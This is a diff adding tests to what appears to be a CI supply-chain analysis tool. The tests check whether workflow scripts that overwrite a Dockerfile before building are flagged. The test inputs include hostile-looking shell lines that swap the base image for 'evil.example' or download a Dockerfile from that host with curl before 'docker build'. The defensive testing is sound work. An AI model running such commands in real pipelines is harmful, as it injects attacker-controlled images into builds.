@@ -157,3 +157,29 @@ describe('a named context that replaces a stage', () => {
     expect(lines.join()).not.toContain('evil.example');
   });
 });
+
+test.each([
+  "sed -i 's/debian.*/evil.example/' Dockerfile && docker build .",
+  'cat > Dockerfile <<E\n    FROM evil.example\n    E\n    docker build .',
+  'cp other Dockerfile; docker build .',
+  'echo FROM evil.example | tee Dockerfile; docker build .',
+  'curl -o Dockerfile https://evil.example/x; docker build .',
+])('a Dockerfile that the script writes first is not known: %s', async (script) => {
+  const { lines, gaps } = await inputsOf({
+    Dockerfile: `FROM debian@${DIGEST}\n`,
+    [CI]: workflow(`- run: |\n    ${script}`),
+  });
+  expect(lines).toEqual([`Dockerfile image debian@${DIGEST} unknown`]);
+  expect(gaps).toEqual([
+    `${CI} a writes Dockerfile before it builds it, so its images are not known`,
+  ]);
+});
+
+test('a Dockerfile that the script writes later, or elsewhere, is known', async () => {
+  const { lines, gaps } = await inputsOf({
+    Dockerfile: `FROM debian@${DIGEST}\n`,
+    [CI]: workflow('- run: cp Dockerfile other; docker build . > log; cp log Dockerfile'),
+  });
+  expect(lines).toEqual([`Dockerfile image debian@${DIGEST} digest`]);
+  expect(gaps).toEqual([]);
+});
